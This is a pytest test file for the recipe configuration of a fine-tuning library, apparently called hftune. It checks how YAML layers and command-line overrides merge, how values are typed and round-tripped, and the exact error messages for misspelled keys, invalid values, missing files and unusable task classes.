"""Recipes: how the layers add up, and the sentence that a person reads for each thing that can be wrong with them."""

from __future__ import annotations

import math
import random
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from hftune import run, tasks
from hftune.config.importing import import_named
from hftune.config.recipe import EvalConfig, Recipe, TrackConfig, TrainConfig
from hftune.config.shipped_files import recipe_names
from hftune.errors import ConfigError, format_value

PLAIN = """
task:
  type: SequenceClassification
  model: null
  model_config: {model_type: bert, hidden_size: 16}
  dataset: hftune.data.demo:reviews
"""

OWN_TASKS = """
from dataclasses import dataclass, field
from typing import Any

from hftune import Task


class Whole(Task):
    def datasets(self): return {}
    def build_model(self): return None
    def loss(self, outputs, target): return None


@dataclass
class Tuned(Whole):
    path: str
    size: tuple[int, int] = (2, 3)
    options: dict[str, Any] = field(default_factory=dict)


@dataclass
class Reports(Whole):
    metric_directions = {"f1": "max", "length": None}


@dataclass
class Unfinished(Task):
    def datasets(self): return {}


@dataclass
class Unreadable(Whole):
    names: set = field(default_factory=set)


class NoDataclass(Whole):
    path: str = "a"


class NoTask:
    pass
"""

SECTIONS = "Sections: task, train, adapter, eval, checkpoint, parallel, track. Keys at the top: base, replace, recipe, seed, output_dir, resume, callbacks."
TASKS = f"Shipped: {', '.join(tasks.__all__)}."
SHIPPED = f"Shipped: {', '.join(recipe_names())}. For a file of your own give its path, ending in .yaml."


@pytest.fixture
def write(tmp_path: Path) -> Callable[[str, str], Path]:
    """Return a function that writes a file in tmp_path and returns its path."""

    def write_file(name: str, text: str) -> Path:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return path

    return write_file


@pytest.fixture
def plain(write) -> Path:
    """A recipe with nothing in it but the task."""
    return write("plain.yaml", PLAIN)


@pytest.fixture
def own_tasks(write, tmp_path, monkeypatch) -> None:
    """Make a module own_tasks importable."""
    write("own_tasks.py", OWN_TASKS)
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.delitem(sys.modules, "own_tasks", raising=False)


def refusal(*argv: str) -> str:
    """Return the whole message with which a recipe is refused, by reading it or by looking at what it names."""
    with pytest.raises(ConfigError) as caught:
        Recipe.from_argv(list(argv)).validate()
    return str(caught.value)


# How the layers add up


def test_each_layer_overrides_the_one_below(write):
    write("below.yaml", PLAIN + "train: {batch_size: 64, lr: 0.1, weight_decay: 0.1}")
    path = write("above.yaml", "base: below.yaml\ntrain: {lr: 0.2, weight_decay: 0.2}")
    train = Recipe.load(path, "train.weight_decay=0.3").train
    assert train == TrainConfig(batch_size=64, lr=0.2, weight_decay=0.3)


def test_a_base_may_have_a_base(write):
    write("bottom.yaml", PLAIN + "train: {batch_size: 64, lr: 0.1}")
    write("middle.yaml", "base: bottom.yaml\ntrain: {lr: 0.2}")
    path = write("top.yaml", "base: middle.yaml\nseed: 7")
    recipe = Recipe.load(path)
    assert (recipe.train.batch_size, recipe.train.lr, recipe.seed) == (64, 0.2, 7)


def test_a_base_may_be_a_shipped_recipe(write):
    path = write("mine.yaml", "base: yelp_demo\ntrain: {lr: 0.25}")
    shipped, mine = Recipe.load("yelp_demo"), Recipe.load(path)
    assert mine.train.lr == 0.25
    assert (mine.task, mine.eval) == (shipped.task, shipped.eval)


def test_a_recipe_is_named_after_its_file_and_not_after_its_base(write):
    recipe = Recipe.load(write("mine.yaml", "base: yelp_demo"))
    assert (recipe.recipe, recipe.output_dir) == ("mine", "outputs/mine")


def test_a_section_whose_keys_are_all_commented_out_keeps_those_of_its_base(write):
    write("below.yaml", PLAIN + "train: {lr: 0.25}")
    path = write("above.yaml", "base: below.yaml\ntrain:\n  # lr: 0.5\n")
    assert Recipe.load(path).train.lr == 0.25


def test_an_empty_override_of_a_section_sets_nothing(write):
    path = write("plain.yaml", PLAIN + "train: {lr: 0.25}")
    assert Recipe.load(path, "train=").train.lr == 0.25


def test_a_base_can_set_the_task_and_the_recipe_above_another_one(write, own_tasks):
    write("below.yaml", "task: {type: own_tasks.Reports}")
    path = write("above.yaml", "base: below.yaml\ntask: {type: own_tasks.Tuned, path: a}")
    assert type(Recipe.load(path).task).__name__ == "Tuned"


def test_the_last_of_two_overrides_of_a_key_counts(plain):
    assert Recipe.load(plain, "train.lr=1", "train.lr=2").train.lr == 2


def test_arguments_are_read_in_any_order(plain):
    recipe = Recipe.from_argv(["train.lr=0.25", f"recipe={plain}", "seed=7"])
    assert (recipe.train.lr, recipe.seed) == (0.25, 7)


# Types


def test_yaml_numbers_without_a_dot_are_floats(write):
    recipe = Recipe.load(write("plain.yaml", PLAIN + "train: {lr: 5e-5, weight_decay: 1}"))
    assert (recipe.train.lr, recipe.train.weight_decay) == (5e-5, 1.0)
    assert type(recipe.train.lr) is type(recipe.train.weight_decay) is float


def test_an_override_without_a_dot_is_a_float(plain):
    lr = Recipe.load(plain, "train.lr=3e-5").train.lr
    assert (lr, type(lr)) == (3e-5, float)


@pytest.mark.parametrize("spelling", ["no", "'no'", "No", "off", "false"])
def test_mixed_precision_no_is_the_word_no_in_a_file(write, spelling):
    path = write("plain.yaml", PLAIN + f"train: {{mixed_precision: {spelling}}}")
    assert Recipe.load(path, "train.num_workers=1").train.mixed_precision == "no"


def test_mixed_precision_no_is_the_word_no_on_the_command_line(write):
    path = write("plain.yaml", PLAIN + "train: {mixed_precision: bf16}")
    assert Recipe.load(path).train.mixed_precision == "bf16"
    assert Recipe.load(path, "train.mixed_precision=no").train.mixed_precision == "no"


@pytest.mark.parametrize("spelling", ["off", "'off'", "false"])
def test_packing_off_is_the_word_off(write, spelling):
    path = write("plain.yaml", PLAIN + f"train: {{packing: {spelling}}}")
    assert Recipe.load(path).train.packing == "off"


def test_betas_are_a_pair_of_floats(write):
    path = write("plain.yaml", PLAIN + "train: {betas: [0.8, 0.95]}")
    assert Recipe.load(path).train.betas == (0.8, 0.95)
    assert Recipe.load(path, "train.betas=[0.7,0.9]").train.betas == (0.7, 0.9)
    assert Recipe.load(path, "train.betas=[0,0]").train.betas == (0.0, 0.0)


def test_null_clears_an_optional_value(write):
    path = write("plain.yaml", PLAIN + "train: {clip_norm: null, max_steps: 5}")
    assert Recipe.load(path).train.clip_norm is None
    assert Recipe.load(path, "train.max_steps=null").train.max_steps is None


def test_track_with_is_the_field_with_underscore(write):
    path = write("plain.yaml", PLAIN + "track: {with: [wandb]}")
    assert Recipe.load(path).track.with_ == ["wandb"]
    assert Recipe.load(path, "track.with=[tensorboard,wandb]").track.with_ == ["tensorboard", "wandb"]
    assert Recipe.load(path, "track.with=[]").track.with_ == []


def test_an_override_adds_to_a_free_mapping(plain):
    task = Recipe.load(plain, "task.model_config.hidden_size=32", "task.model_config.num_hidden_layers=1").task
    assert task.model_config == {"model_type": "bert", "hidden_size": 32, "num_hidden_layers": 1}


def test_an_override_fills_a_free_mapping_that_is_null(plain):
    task = Recipe.load(plain, "task.data_files.train=a.jsonl", "task.data_files.eval=[b.jsonl,c.jsonl]").task
    assert task.data_files == {"train": "a.jsonl", "eval": ["b.jsonl", "c.jsonl"]}


def test_a_file_fills_a_free_mapping_that_is_null(write):
    path = write("files.yaml", PLAIN + "  data_files: {train: a.jsonl, eval: b.jsonl}")
    assert Recipe.load(path).task.data_files == {"train": "a.jsonl", "eval": "b.jsonl"}


def test_null_clears_an_optional_free_mapping(write):
    path = write("files.yaml", PLAIN + "  data_files: {train: a.jsonl, eval: b.jsonl}")
    assert Recipe.load(path, "task.data_files=null").task.data_files is None
    assert Recipe.load(path, "task.model_config=null").task.model_config == {}  # out goes what a base has put there


def test_a_value_may_refer_to_another_one(plain):
    recipe = Recipe.load(plain, "train.micro_batch_size=${train.batch_size}", "train.batch_size=16")
    assert recipe.train.micro_batch_size == 16


def test_a_value_may_refer_to_a_key_at_the_top(plain):
    recipe = Recipe.load(plain, "output_dir=runs/${recipe}-${seed}-${train.batch_size}")
    assert recipe.output_dir == "runs/plain-42-32"


def test_a_task_of_ones_own_has_its_fields_as_keys(write, own_tasks):
    path = write("mine.yaml", "task: {type: own_tasks.Tuned, path: here, options: {a: 1}}")
    recipe = Recipe.load(path, "task.size=[4,5]", "task.options.b.c=2")
    recipe.validate()
    assert vars(recipe.task) == {"path": "here", "size": (4, 5), "options": {"a": 1, "b": {"c": 2}}}


# The resolved recipe


@pytest.mark.parametrize("name", recipe_names())
def test_every_shipped_recipe_is_accepted(name, write, tmp_path):
    files = [f"task.data_files.{part}={write('rows.jsonl', '{}')}" for part in ("train", "eval")]
    folder = [f"task.data_dir={tmp_path}"]
    (tmp_path / "config.json").write_text("{}")
    model = [f"task.model={tmp_path}"]
    missing = {"bigbird": files, "restoration": folder, "image_classification": folder}  # they have no data of their own
    missing |= {"chats_lora_demo": model}  # its model is the result of another one
    needs_files = Recipe.load(name).task.dataset is None  # a recipe for a problem, and data of one's own
    recipe = Recipe.from_argv([f"recipe={name}", *missing.get(name, files if needs_files else [])])
    recipe.validate()
    assert (recipe.recipe, recipe.output_dir) == (name, f"outputs/{name}")


@pytest.mark.parametrize("name", recipe_names())
def test_every_shipped_recipe_is_equal_after_a_round_trip(name, write):
    recipe = Recipe.load(name)
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


def test_a_resolved_recipe_keeps_its_name_and_its_output_folder(plain, write):
    recipe = Recipe.from_argv([f"recipe={plain}"])
    again = Recipe.from_argv([f"recipe={write('recipe.yaml', recipe.to_yaml())}"])
    assert again == recipe
    assert (again.recipe, again.output_dir) == ("plain", "outputs/plain")


def test_a_resolved_recipe_holds_every_override(plain, write):
    overrides = [
        "seed=7",
        "output_dir=elsewhere",
        "task.data_files={train: a.jsonl, eval: [b.jsonl]}",
        "task.label_names=['1','no',null text,'a: b','ä','']",
        "train.betas=[0.5,0.75]",
        "train.clip_norm=null",
        "train.micro_batch_size=${train.batch_size}",
        "train.mixed_precision=no",
        "eval.every=2 epochs",
        "track.with=[wandb]",
        "track.run_name='1e-3'",
    ]
    recipe = Recipe.load(plain, *overrides)
    again = Recipe.load(write("recipe.yaml", recipe.to_yaml()))
    assert again == recipe
    assert again.task.label_names == ["1", "no", "null text", "a: b", "ä", ""]
    assert (again.train.betas, again.train.mixed_precision, again.track.run_name) == ((0.5, 0.75), "no", "1e-3")


def test_a_resolved_recipe_names_a_task_of_ones_own(write, own_tasks):
    recipe = Recipe.load(write("mine.yaml", "task: {type: own_tasks.Tuned, path: here, size: [4, 5]}"))
    assert recipe.to_dict()["task"]["type"] == "own_tasks.Tuned"
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


def test_a_resolved_recipe_spells_with_as_users_do(plain):
    track = Recipe.load(plain, "track.with=[wandb]").to_dict()["track"]
    assert track["with"] == ["wandb"] and "with_" not in track


def test_a_model_to_register_must_be_uploaded(plain):
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, "track.with=[mlflow]", "track.upload=none", "track.register=stars").validate()
    assert "track.register=stars needs the best model, which track.upload=none keeps here. Set it to best." in str(caught.value)
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, "track.upload=bset").validate()
    assert "track.upload='bset' is not one of none, best, all. Did you mean 'best'?" in str(caught.value)


# Which recipe


@pytest.mark.parametrize(
    ("files", "words", "hint"),
    [
        ({}, ["recipe=yelp-demo"], f"recipe=yelp-demo: there is no such recipe. Did you mean 'yelp_demo'? {SHIPPED}"),
        ({}, ["recipe=resnet"], f"recipe=resnet: there is no such recipe. {SHIPPED}"),
        ({}, ["recipe="], "recipe=: there is no such recipe."),
        ({}, ["recipe=/no/where.yaml"], "recipe=/no/where.yaml: there is no such file (looked at /no/where.yaml)."),
        ({}, ["recipe=mine.yaml"], "recipe=mine.yaml: there is no such file (looked at HERE/mine.yaml)."),
        ({}, ["train.lr=1"], "Name one recipe, such as recipe=yelp_demo; 0 were given."),
        ({}, ["recipe=yelp", "recipe=yelp"], "Name one recipe, such as recipe=yelp_demo; 2 were given."),
        (
            {"a.yaml": "base: yelp-demo"},
            ["recipe=a.yaml"],
            "base=yelp-demo: there is no such recipe. Did you mean 'yelp_demo'?",
        ),
        ({"a.yaml": "base: [a]"}, ["recipe=a.yaml"], "base=['a'] is not the name or the path of a recipe. (a.yaml)"),
        (
            {"a.yaml": "base: b.yaml", "b.yaml": "base: a.yaml"},
            ["recipe=a.yaml"],
            "base=a.yaml leads back to HERE/a.yaml: a recipe cannot be its own base. (b.yaml)",
        ),
        ({}, ["recipe=yelp", "base=yelp"], "base=... belongs in a recipe file; here, name the recipe itself: recipe=..."),
        (
            {"a.yaml": "task:\n  type: [a\ntrain: 3\n"},
            ["recipe=a.yaml"],
            "a.yaml cannot be read: while parsing a flow sequence",
        ),
        ({"a.yaml": "task:\n  type: [a\ntrain: 3\n"}, ["recipe=a.yaml"], 'in "a.yaml", line 3, column 6'),
        ({"a.yaml": "train: {lr: 1}\ntrain: {lr: 2}\n"}, ["recipe=a.yaml"], "found duplicate key train"),
        ({"a.yaml": "- a\n- b\n"}, ["recipe=a.yaml"], "a.yaml is not a recipe: at its top level it needs keys such as task:"),
    ],
)
def test_a_recipe_that_cannot_be_read_says_which_and_why(write, tmp_path, monkeypatch, files, words, hint):
    monkeypatch.chdir(tmp_path)
    for name, text in files.items():
        write(name, text)
    assert hint in refusal(*words).replace(str(tmp_path), "HERE")


# Arguments


@pytest.mark.parametrize("word", ["train.lr", "--lr=3", "=3", "train.lr =3", "yelp", "train[lr]=3"])
def test_an_argument_of_another_form_is_refused(plain, word):
    assert refusal(f"recipe={plain}", word) == f"{word!r} is not of the form section.key=value, such as train.lr=3e-5."


def test_a_list_of_arguments_is_to_be_unpacked(plain):
    with pytest.raises(ConfigError, match=r"is not of the form .* Unpack the list: Recipe\.load\(name, \*overrides\)\.$"):
        Recipe.load(plain, ["train.lr=1", "seed=2"])


@pytest.mark.parametrize(
    ("word", "reason"),
    [
        ("train.lr=[", "did not find expected node content"),
        ("train.lr={a", "did not find expected ',' or '}'"),
        ("train.lr='a", "found unexpected end of stream"),
    ],
)
def test_a_value_that_cannot_be_read_is_told_from_the_others_in_one_line(plain, word, reason):
    assert refusal(f"recipe={plain}", "seed=7", word, "train.epochs=2") == f"{word} cannot be read: {reason}."


# Keys


@pytest.mark.parametrize(
    ("key", "hint"),
    [
        ("train.lrr", "Did you mean 'train.lr'?"),
        ("task.max_lenght", "Did you mean 'task.max_length'?"),
        ("track.projekt", "Did you mean 'track.project'?"),
        ("outputdir", "Did you mean 'output_dir'?"),
        ("trian.lr", "Did you mean 'train.lr'?"),
        ("evl.batch_size", "Did you mean 'eval.batch_size'?"),
        ("eval.lr", "Did you mean 'train.lr'?"),
        ("train.max_length", "Did you mean 'task.max_length'?"),
        ("lr", "Did you mean 'train.lr'?"),
        ("batch_size", "Did you mean 'train.batch_size'?"),
        ("model", "Did you mean 'task.model'?"),
        ("with", "Did you mean 'track.with'?"),
        ("track.xyz", "Keys of track: with, project, run_name, entity, group, tags, notes, job_type, upload, register."),
        ("xyz", SECTIONS),
        ("xyz.uvw", SECTIONS),
    ],
)
def test_unknown_key_suggests_the_nearest_valid_one_or_lists_those_there_are(plain, key, hint):
    assert refusal(f"recipe={plain}", f"{key}=1") == f"{key} is not a key of a recipe. {hint}"


def test_an_unknown_key_in_a_file_names_the_file(write):
    path = write("mine.yaml", PLAIN + "train: {lrr: 1}")
    assert refusal(f"recipe={path}") == f"train.lrr is not a key of a recipe. Did you mean 'train.lr'? ({path})"


def test_an_unknown_key_in_a_base_names_the_base(write):
    below = write("below.yaml", PLAIN + "train: {lrr: 1}")
    path = write("above.yaml", "base: below.yaml\nseed: 7")
    assert refusal(f"recipe={path}") == f"train.lrr is not a key of a recipe. Did you mean 'train.lr'? ({below})"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("train: 3", "train=3 must be a section of keys, such as train.epochs=..."),
        ("train: [a]", "train=['a'] must be a section of keys, such as train.epochs=..."),
        ("track: wandb", "track='wandb' must be a section of keys, such as track.with=..."),
    ],
)
def test_a_section_that_is_none_is_refused(write, text, message):
    write("below.yaml", PLAIN)
    path = write("mine.yaml", f"base: below.yaml\n{text}")
    assert refusal(f"recipe={path}") == f"{message} ({path})"


# Values


@pytest.mark.parametrize(
    ("word", "hint"),
    [
        ("train.lr=abc", "is not a number, such as 5e-05."),
        ("train.lr=[1]", "is not a number"),
        ("train.lr=true", "is not a number"),
        ("train.lr=null", "is not a number"),
        ("train.batch_size=1.5", "is not a whole number, such as 32."),
        ("train.micro_batch_size=many", "is not a whole number, nor auto. null: 8,"),
        ("train.profile=5", "is not a list such as [a,b] or null."),
        ("train.profile=[3, 2]", "must be the first and the last step"),
        ("train.profile=[1, 2, 3]", "must be the first and the last step"),
        ("train.clip_norm=big", "is not a number or null, such as 1.0."),
        ("train.compile=2", "is not true or false."),
        ("eval.greater_is_better=0.5", "is not true or false or null."),
        ("train.betas=[0.9]", "is not a list of 2 numbers, such as [0.9,0.999]."),
        ("train.betas=[0.9,x]", "is not a list of 2 numbers"),
        ("eval.metric=[a]", "is not a string, such as loss."),
        ("track.with=wandb", "is not a list such as [a,b]."),
        ("task.label_names=a", "is not a list such as [a,b] or null."),
        ("task.data_files=a.jsonl", "is not a section of keys or null."),
        ("seed=x", "is not a whole number, such as 42."),
        ("train.schedule=cosin", "is not one of linear, cosine, constant, step,"),
        ("train.schedule=cosin", "nor a dotted path such as my_module.my_schedule. Did you mean 'cosine'?"),
        ("train.schedule=null", "is not a string, such as linear."),
        ("train.optimizer=AdamW", "Did you mean 'adamw'?"),
        ("train.mixed_precision=fp61", "is not one of no, bf16, fp16, auto. Did you mean 'fp16'?"),
        ("train.mixed_precision=true", "is not one of no, bf16, fp16, auto."),
        ("train.packing=on", "is not one of auto, off."),
        ("track.with=[wanb]", "Did you mean 'wandb'?"),
        ("adapter.targets=[]", "is neither all-linear nor a list of names"),
        ("train.parts=64", "is larger than train.batch_size=32"),
        ("train.micro_batch_size=33", "is larger than train.batch_size=32"),
        ("train.lr=nan", "must be above 0 and finite."),
        ("train.weight_decay=inf", "must be at least 0 and finite."),
        ("train.betas=[0.9,1]", "each must be in [0, 1)."),
        ("train.clip_norm=0", "must be above 0. null: no clipping."),
        ("seed=4294967296", "must be in [0, 4294967295]."),
        ("task.max_length=2", "must be at least 3."),
        *[(f"eval.every={word}", "is neither a number of steps") for word in ("0", "0 epochs", "'20'", "epoch 2")],
    ],
)
def test_a_value_that_cannot_be_is_named_with_its_key_and_what_would_fit(plain, word, hint):
    said = refusal(f"recipe={plain}", word)
    assert said.startswith(f"{word.partition('=')[0]}=") and hint in said and "\n" not in said


@pytest.mark.parametrize(
    "text", ["1e3", "1.10", "1234e56", "8e12345", "0x10", "1_000", "010", "1:30", "2024-01-01", "no", "on"]
)
def test_a_text_stays_as_it_is_typed_though_yaml_would_read_it_as_something_else(write, text):
    """Also in lists and mappings typed as texts; from files and from the command line."""
    words = ["track.run_name={}", "task.model_revision={}", "task.label_names=[a, {}]", "train.optimizer_args={{{}: 1}}"]
    path = write("mine.yaml", PLAIN + f"  model_revision: {text}\n  label_names: [a, {text}]\ntrack: {{run_name: {text}}}\n")
    for recipe in (Recipe.load(path), Recipe.load("yelp_demo", *(word.format(text) for word in words))):
        assert recipe.track.run_name == recipe.task.model_revision == text and recipe.task.label_names == ["a", text]
        assert Recipe.load(write("again.yaml", recipe.to_yaml())) == recipe
    assert recipe.train.optimizer_args == {text: 1}
    prefixes = Recipe.load("embeddings_demo", f"task.prefixes={{a: {text}}}", f"task.prefixes.b={text}").task.prefixes
    assert prefixes == {"a": text, "b": text}


def test_a_number_that_python_gives_for_a_text_is_refused_as_nobody_knows_how_it_was_written(plain):
    for key, value in {"track.run_name": 1e3, "task.label_names": ["a", True]}.items():
        with pytest.raises(ConfigError, match=rf"^{key}=.*: this key takes a text\. Quote it\.$"):
            Recipe.load(plain, {key: value})


def test_overrides_may_be_mappings_whose_values_are_taken_as_they_are(plain):
    words = ("train.lr=1", "task.data_files.eval=b")
    recipe = Recipe.load(plain, *words, {"train.lr": 2, "task": {"data_files": {"eval": "a #b"}}, "output_dir": Path("x: y")})
    assert (recipe.train.lr, recipe.task.data_files["eval"], recipe.output_dir) == (2.0, "a #b", "x: y")
    for wrong in (["train.lr=1"], {"train[lr]": 1}, {3: 1}):
        with pytest.raises(ConfigError, match=r"such as train\.lr"):
            Recipe.load(plain, wrong)


def test_a_formatted_value_is_read_back_as_the_same_value(plain):
    letters = "ab 1e3.0x_-+:#'\"\\,[]{}&*!|>%@`~?=\n\t\r\0\x1b\x7f\x85\xa0\u2028\ufeff\uffffé名😀$"
    rng = random.Random(0)
    texts = ["", "null", "~", "no", "1e3", "a #b", "- a", "'", '"', "\\", "<<", *letters]
    texts += ["".join(rng.choices(letters, k=rng.randrange(12))) for _ in range(500)]
    assert Recipe.load(plain, f"task.label_names={format_value(texts)}").task.label_names == texts
    values = {text: [1e-5, 1e16, -math.inf, True, None, {"a": 3}] for text in texts}
    assert Recipe.load(plain, f"train.optimizer_args={format_value(values)}").train.optimizer_args == values
    assert math.isnan(Recipe.load(plain, f"train.optimizer_args.a={format_value(math.nan)}").train.optimizer_args["a"])


def test_a_wrong_type_in_a_file_names_the_file(write):
    path = write("mine.yaml", PLAIN + "train: {lr: abc}")
    assert refusal(f"recipe={path}") == f"train.lr='abc' is not a number, such as 5e-05. ({path})"


def test_a_micro_batch_as_large_as_the_batch_is_accepted(plain):
    assert Recipe.load(plain, "train.batch_size=8", "train.micro_batch_size=8").train.max_rows == 8


@pytest.mark.parametrize("key", ["train.lr", "seed"])
def test_a_reference_to_nothing_names_the_key_that_holds_it(plain, key):
    assert refusal(f"recipe={plain}", f"{key}=${{train.nope}}") == f"{key}: Interpolation key 'train.nope' not found."


def test_all_problems_are_listed_at_once(plain):
    words = [
        "train.lr=abc",
        "train.lrr=1",
        "train.batch_size=0",
        "train.clip_norm=-1",
        "eval.every=sometimes",
        "track.with=[x]",
        "seed=-1",
    ]
    assert refusal(f"recipe={plain}", *words) == (
        "Recipe 'plain' has 7 problems:\n"
        "  train.lr='abc' is not a number, such as 5e-05.\n"
        "  train.lrr is not a key of a recipe. Did you mean 'train.lr'?\n"
        "  seed=-1 must be in [0, 4294967295].\n"
        "  train.batch_size=0 must be at least 1.\n"
        "  train.clip_norm=-1.0 must be above 0. null: no clipping.\n"
        "  eval.every='sometimes' is neither a number of steps, such as 500, nor epoch, '2 epochs', '30 min' or never.\n"
        "  track.with='x' is not one of wandb, mlflow, tensorboard, trackio, swanlab, comet_ml, aim, clearml, dvclive, nor a dotted path such as my_module.MyTracker."
    )


def test_all_that_a_recipe_names_wrongly_is_listed_at_once(plain):
    words = ["task.model=./nowhere", "eval.metric=acuracy"]
    assert refusal(f"recipe={plain}", *words) == (
        "Recipe 'plain' has 2 problems:\n"
        "  task.model=./nowhere: there is no such folder.\n"
        "  eval.metric='acuracy' is not computed by SequenceClassification. "
        "It computes: loss, accuracy, macro_f1, mcc, micro_f1, auroc, exact_match, rmse, mae, pearson, spearman. "
        "Did you mean 'accuracy'?"
    )


@pytest.mark.parametrize(
    ("build", "words"),
    [
        (lambda: TrainConfig(batch_size=0, epochs=0), ["train.batch_size=0", "train.epochs=0"]),
        (lambda: TrainConfig(schedule="cosin"), ["train.schedule=cosin"]),
        (lambda: EvalConfig(every=0), ["eval.every=0"]),
        (lambda: TrackConfig(with_=["wanb"]), ["track.with=[wanb]"]),
    ],
)
def test_code_meets_the_same_sentence_as_the_command_line(plain, build, words):
    with pytest.raises(ConfigError) as caught:
        build()
    assert str(caught.value).replace("The recipe", "Recipe 'plain'") == refusal(f"recipe={plain}", *words)


# Tasks

MISSING_TYPE = "task.type is missing. Name a class of hftune.tasks, such as SequenceClassification, or your own."


@pytest.mark.parametrize("text", ["seed: 1", "task: {model: a}", "task:", "task: 3", "task: [a]", ""])
def test_a_recipe_without_a_task_type_is_refused(write, text):
    assert refusal(f"recipe={write('mine.yaml', text)}") == MISSING_TYPE


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (
            "SequenceClasification",
            "task.type=SequenceClasification cannot be imported: module 'hftune.tasks' has no attribute "
            f"'SequenceClasification'. {TASKS} Did you mean 'SequenceClassification'?",
        ),
        (
            "no_such_module.Thing",
            f"task.type=no_such_module.Thing cannot be imported: No module named 'no_such_module'. {TASKS}",
        ),
        (
            "own_tasks.Nothing",
            f"task.type=own_tasks.Nothing cannot be imported: module 'own_tasks' has no attribute 'Nothing'. {TASKS}",
        ),
        (
            ".Thing",
            f"task.type=.Thing cannot be imported: Empty module name. {TASKS}",
        ),
        ("own_tasks.NoTask", "task.type=own_tasks.NoTask is not a subclass of hftune.Task."),
        ("own_tasks.NoDataclass", "task.type=own_tasks.NoDataclass must be a dataclass: write @dataclass above the class."),
        ("own_tasks.Unfinished", "task.type=own_tasks.Unfinished must define: build_model, loss."),
        ("own_tasks.Unreadable", "task.type=own_tasks.Unreadable: a key cannot be of the type set."),
        ("own_tasks.Tuned", "task.path is missing. It has no default: set task.path=..."),
    ],
)
def test_a_task_type_that_cannot_be_used_says_why(write, own_tasks, name, message):
    path = write("mine.yaml", f"task: {{type: {name}}}")
    assert refusal(f"recipe={path}") == message


def test_a_metric_that_the_task_does_not_compute_is_refused(plain):
    known = "It computes: loss, accuracy, macro_f1, mcc, micro_f1, auroc, exact_match, rmse, mae, pearson, spearman"
    said = "eval.metric={} is not computed by SequenceClassification. " + known
    assert refusal(f"recipe={plain}", "eval.metric=acuracy") == said.format("'acuracy'") + ". Did you mean 'accuracy'?"
    assert refusal(f"recipe={plain}", "eval.metric=rouge") == said.format("'rouge'") + "."
    known = "It computes: loss, accuracy, macro_f1, mcc, mae."
    words = ("eval.metric=rouge", "task.ordinal=true", "task.problem_type=single_label_classification")
    assert refusal(f"recipe={plain}", *words).endswith(known)


def test_a_metric_of_a_task_of_ones_own_is_checked_too(write, own_tasks):
    path = write("mine.yaml", "task: {type: own_tasks.Reports}\neval: {metric: f2}")
    said = f"eval.metric='f2' is not computed by Reports. It computes: loss, f1, length. ({path})"
    assert refusal(f"recipe={path}") == said


@pytest.mark.parametrize(
    ("metric", "said", "better"),
    [("accuracy", "false", "greater"), ("mae", "true", "smaller"), ("loss", "true", "smaller")],
)
def test_a_direction_that_contradicts_the_metric_is_refused(metric, said, better):
    assert refusal("recipe=yelp_demo", f"eval.metric={metric}", f"eval.greater_is_better={said}") == (
        f"eval.greater_is_better={said} contradicts eval.metric={metric}: {better} values are better. "
        "Leave eval.greater_is_better out, or set it to null."
    )


@pytest.mark.parametrize(
    ("recipe", "metric", "expected"),
    [
        ("yelp_demo", "accuracy", True),
        ("yelp_demo", "mae", False),
        ("bigbird_demo", "rouge_l_char", True),
        ("bigbird_demo", "empty_share", False),
        ("wikitext2_demo", "perplexity", False),
        ("restoration_demo", "l1_inside", False),
        ("restoration_demo", "psnr_inside", True),
        ("mnist_demo", "loss", False),
    ],
)
def test_the_task_says_whether_more_of_a_metric_is_better(recipe, metric, expected):
    loaded = Recipe.load(recipe, f"eval.metric={metric}")
    loaded.validate()
    assert loaded.greater_is_better is expected


@pytest.mark.parametrize(("type_", "metric"), [("Whole", "f1"), ("Reports", "length")])
def test_a_metric_without_a_direction_needs_it_said(write, own_tasks, type_, metric):
    write("own_tasks.py", OWN_TASKS.replace("class Whole", "@dataclass\nclass Whole"))
    path = write("mine.yaml", f"task: {{type: own_tasks.{type_}}}\neval: {{metric: {metric}}}")
    assert refusal(f"recipe={path}") == (
        f"eval.metric={metric}: {type_} does not declare whether greater is better. Set eval.greater_is_better to true or false, "
        f'or give {type_} metric_directions = {{"{metric}": "max"}}, or "min". ({path})'
    )
    for said in (True, False):
        loaded = Recipe.load(path, f"eval.greater_is_better={str(said).lower()}")
        loaded.validate()
        assert loaded.greater_is_better is said


# Files that a recipe names


@pytest.fixture
def files(write) -> SimpleNamespace:
    return SimpleNamespace(train=write("train.jsonl", "{}"), eval=write("eval.jsonl", "{}"))


def with_files(plain: Path, train: object, eval: object) -> list[str]:
    return [f"recipe={plain}", "task.dataset=json", f"task.data_files.train={train}", f"task.data_files.eval={eval}"]


def test_files_that_exist_are_accepted(plain, files, tmp_path):
    for train in (files.train, f"[{files.train},{files.eval}]", f"{tmp_path}/*.jsonl"):
        Recipe.from_argv(with_files(plain, train, files.eval)).validate()


@pytest.mark.parametrize(
    ("words", "hint"),
    [
        (
            ["task.data_files.train=HERE/trian.jsonl"],
            "train=HERE/trian.jsonl: there is no such file. Did you mean HERE/train.jsonl?",
        ),
        (["task.data_files.train=[HERE/train.jsonl,/no/where]"], "task.data_files.train=/no/where: there is no such file."),
        (["task.data_files.train=HERE/*.parquet"], "task.data_files.train=HERE/*.parquet: there is no such file."),
        (["task.data_files=null", "task.dataset=json"], "task.dataset=json needs files: set task.data_files.train=..."),
        (["replace=[task.data_files]", "task.data_files.eval=HERE/eval.jsonl"], "task.data_files.train is missing."),
        (["task.data_files.dev=HERE/eval.jsonl"], "Keys of task.data_files: train, eval, test."),
        (["task.data_files.train=3"], "task.data_files.train=3 is not a path or a list of paths."),
        (["task.data_files.train=[3]"], "task.data_files.train=[3] is not a path or a list of paths."),
    ],
)
def test_files_that_cannot_be_read_are_named(write, files, tmp_path, words, hint):
    path = write("mine.yaml", f"{PLAIN}  data_files: {{train: {files.train}, eval: {files.eval}}}\n".replace("dataset:", "#"))
    assert hint in refusal(f"recipe={path}", *(word.replace("HERE", str(tmp_path)) for word in words)).replace(
        str(tmp_path), "HERE"
    )


@pytest.mark.parametrize(
    ("names", "there"),
    [([], "nothing"), (["weights.bin", "notes.txt"], "notes.txt, weights.bin")],
    ids=["empty", "other files"],
)
def test_a_model_folder_without_a_config_says_what_is_in_it(plain, tmp_path, names, there):
    folder = tmp_path / "model"
    folder.mkdir()
